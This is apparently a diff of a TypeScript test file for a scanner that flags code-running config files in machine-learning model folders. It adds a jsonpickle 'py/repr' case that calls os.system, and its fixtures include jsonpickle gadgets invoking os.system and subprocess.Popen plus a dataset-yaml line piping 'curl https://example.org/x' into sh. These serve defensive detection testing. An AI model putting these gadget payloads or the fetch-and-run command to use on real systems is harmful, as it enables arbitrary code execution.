@@ -89,6 +89,7 @@ describe("names of what to call", () => {
     ["any.json", '{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}', "dangerous"],
     ["any.json", '{"py/object/apply": ["os.system", "id"]}', "dangerous"],
     ["any.json", '[{"py/type": "subprocess.Popen"}]', "dangerous"],
+    ["any.json", `{"py/repr": "os/os.system('id')"}`, "dangerous"],
   ])("that run or load code count in %s away from models: %s", async (name, content, verdict) => {
     expect(verdictsOf(await detect({ [name]: text(content) }))).toEqual([`CONFIG-GADGET ${verdict}`]);
   });
@@ -113,11 +114,14 @@ describe("names of what to call", () => {
 });
 
 describe("the description of a dataset", () => {
-  const dataset = (download: string, keys = "train: images\nval: images\nnames: [a]\n"): Promise<FolderReading> =>
-    detect({ "data.yaml": text(`${keys}download: ${download}\n`) });
+  const dataset = (
+    download: string,
+    keys = "train: images\nval: images\nnames: [a]\n",
+  ): Promise<FolderReading> => detect({ "data.yaml": text(`${keys}download: ${download}\n`) });
 
   it("that downloads by a script is suspicious, or as bad as the script", async () => {
-    const python = "|\n  from ultralytics.utils.downloads import download\n  download(['https://example.org/a.zip'])";
+    const python =
+      "|\n  from ultralytics.utils.downloads import download\n  download(['https://example.org/a.zip'])";
     expect(verdictsOf(await dataset(python))).toEqual(["CONFIG-DOWNLOAD suspicious"]);
     expect(verdictsOf(await dataset("bash data/get.sh"))).toEqual(["CONFIG-DOWNLOAD suspicious"]);
     const hostile = "|\n  import os\n  os.system('curl https://example.org/x | sh')";
